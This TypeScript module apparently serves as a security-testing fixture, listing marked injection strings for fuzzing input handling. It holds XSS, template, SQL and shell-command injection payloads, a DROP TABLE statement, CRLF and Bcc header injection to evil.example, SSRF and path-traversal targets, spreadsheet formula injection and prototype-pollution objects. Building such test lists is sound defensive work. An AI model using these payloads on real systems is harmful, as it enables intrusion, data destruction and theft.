/**
 * What has broken programs before: texts that become markup, code, statements, headers, paths, formulas or
 * other addresses where somebody trusts them. Each holds the mark, by which it is known again in a log.
 */
export const mark = 'zq9x';

const markup = [
  ...['<script>MARK</script>', '"><img src=x onerror=MARK>', "'><svg/onload=MARK>", '</title><b>MARK</b>'],
  ...[
    '" autofocus onfocus="MARK',
    "' onmouseover='MARK",
    '</textarea><iframe srcdoc="MARK">',
    '<!--><b>MARK',
  ],
  ...['<a href="javascript:MARK">x</a>', '`-->MARK<!--`', '<ScRiPt/MARK>', '<<b>MARK', '<b\u0000>MARK</b>'],
  ...['<math><mi//xlink:href="data:x,MARK">', '<style>@import"MARK"</style>', '<b>MARK</b>@example.com'],
  ...['"<script>MARK</script>"@example.com', '[x](javascript:MARK) ![x](https://evil.example/"MARK)'],
];
const code = [
  ...['<%= globalThis.MARK = 1 %>', '<%- include("/etc/MARK") %>', '${globalThis.MARK=1}', '#{7*7}MARK'],
  ...['{{constructor.constructor("MARK")()}}', '{{list}}MARK', '$t(page.button)MARK', "$& $1 $` $' MARK"],
  ...['%{MARK}', '__import__("os")MARK', '$(touch MARK)', '`touch MARK`', '; touch MARK', '| touch MARK'],
  ...[
    '&& MARK &&',
    '%s%s%n%x MARK',
    '{0}MARK',
    'eval("MARK")',
    'process.exit(1)//MARK',
    '!!js/function MARK',
  ],
];
const statements = [
  ...[
    "' OR '1'='1' -- MARK",
    '" OR 1=1 # MARK',
    "'; DROP TABLE opt_outs; -- MARK",
    '1; SELECT SLEEP(9) -- MARK',
  ],
  ...[
    "\\' OR 1=1 -- MARK",
    "') UNION SELECT name FROM users -- MARK",
    "%' OR 'MARK' LIKE '%",
    '??MARK',
    '?MARK',
  ],
  ...["admin'/*MARK*/", '0x27204f522031MARK', ':MARK', '@@versionMARK', '{"$gt":"","MARK":1}', '_%MARK'],
];
const headers = [
  ...['MARK\r\nX-Injected: 1', 'MARK\nX-Injected: 1', 'MARK\rX-Injected: 1', 'MARK\r\n\r\n<b>x</b>'],
  ...['MARK%0d%0aX-Injected: 1', 'MARK\u560a\u560dX-Injected: 1', 'MARK\u2028X-Injected: 1', 'MARK; Path=/'],
  ...[
    'MARK\r\nSet-Cookie: signoff=x',
    '"MARK"; filename="x.html"',
    'a@example.com\r\nBcc: MARK@evil.example',
  ],
];
const places = [
  ...['//evil.example/MARK', 'https://evil.example/MARK', '/\\evil.example/MARK', 'https:evil.example/MARK'],
  ...['javascript:MARK', 'data:text/html,MARK', 'https://a@evil.example/MARK', '\thttps://evil.example/MARK'],
  ...['../../../../etc/passwd#MARK', '..\\..\\MARK', '/etc/MARK\u0000.json', '%2e%2e%2fMARK', 'file:///MARK'],
  ...['http://169.254.169.254/MARK', 'ja/../en#MARK', 'C:\\MARK', '\\\\evil.example\\MARK', '.%00./MARK'],
];
const formulas = [
  ...["=cmd|'/C MARK'!A0", '+1+MARK', '-1+MARK', '@SUM(MARK)', '\t=MARK', '\r=MARK', '=HYPERLINK("MARK")'],
  ...['=1+1@MARK.example', '+MARK@example.com', '"=MARK"@example.com', 'a,b\n"=MARK', '＝MARK'],
];
const objects = [
  ...['{"__proto__":{"MARK":1}}', '{"constructor":{"prototype":{"MARK":1}}}', '[["__proto__","MARK"]]'],
  ...['__proto__[MARK]', 'constructor[prototype][MARK]', 'toString MARK', 'hasOwnProperty', '__proto__'],
  ...[
    '{"settings":{"view options":{"outputFunctionName":"MARK"}}}',
    '[object Object]MARK',
    'NaN',
    'undefined',
  ],
];
const texts = [
  ...[
    'MARK\u0000MARK',
    'MARK\u0007',
    'MARK\u200b\u200d\ufeff',
    '\u202eMARK\u2066',
    '\ud83d\ude00MARK',
    'Ω≈ç√MARK',
  ],
  ...[
    'ﷺMARK',
    'Z̸̧̛a̵l̴g̷o̵MARK',
    '田中MARK',
    'السلامMARK',
    '＜MARK＞',
    'ⅷMARK',
    'ß ẞ ı İMARK',
    '\u0301MARK',
    '\ufffeMARK',
  ],
  ...[
    '',
    ' ',
    '0',
    '-1',
    '1e309',
    '9'.repeat(400),
    '1/0',
    '0x10',
    '٣',
    '1_000',
    '+0',
    '1,000',
    'true',
    'null',
  ],
  ...[
    `${'a'.repeat(3000)}MARK`,
    '('.repeat(500),
    `${'a!'.repeat(300)}MARK`,
    '\\'.repeat(200),
    `${'%25'.repeat(100)}MARK`,
  ],
];
/** As people and programs have them: odd, good and broken ones. */
const addresses = [
  ...[
    'MARK+news@example.com',
    '"MARK m"@example.com',
    'MARK..x@docomo.example',
    '.MARK@example.com',
    'MARK@',
  ],
  ...['MARK@[127.0.0.1]', 'MARK@localhost', 'MARK@bücher.example', 'MARK@xn--bcher-kva.example', '@MARK'],
  ...[
    'MARK@example.com@evil.example',
    'MARK <a@example.com>',
    'a@example.com,MARK@example.com',
    'MARK＠example.com',
  ],
  ...[
    "o'MARK@example.com",
    'MARK%40example.com',
    'MARK@-a-.example',
    'MARK@a..example',
    '"MARK\\"x"@example.com',
  ],
  ...[
    '{{email}}MARK',
    '%%email%%',
    '*|EMAIL|*',
    'MARK@exa\u00admple.com',
    `${'x'.repeat(65)}MARK@example.com`,
  ],
  ...[
    'MARK@example.com\u0000',
    'MARK@example.com ',
    'mailto:MARK@example.com',
    'MARK@例え.テスト',
    'MARK(c)@example.com',
  ],
];

export const payloads: readonly string[] = [
  ...[markup, code, statements, headers, places, formulas, objects, texts, addresses].flat(),
].map((text) => text.replaceAll('MARK', mark));

/** Names of parameters that have turned into settings of a template engine, or into every object's. */
export const names: readonly string[] = [
  ...['settings[view options][outputFunctionName]', 'settings[view options][escapeFunction]'],
  ...['settings[view options][client]', 'outputFunctionName', 'escapeFunction', 'localsName', 'view options'],
  ...[
    '__proto__',
    '__proto__[x]',
    'constructor',
    'constructor[prototype][x]',
    'toString',
    'email[]',
    'email[0]',
  ],
  ...['email[__proto__]', '', 'cache', 'layout', 'filename', '_locals', 'debug'],
];
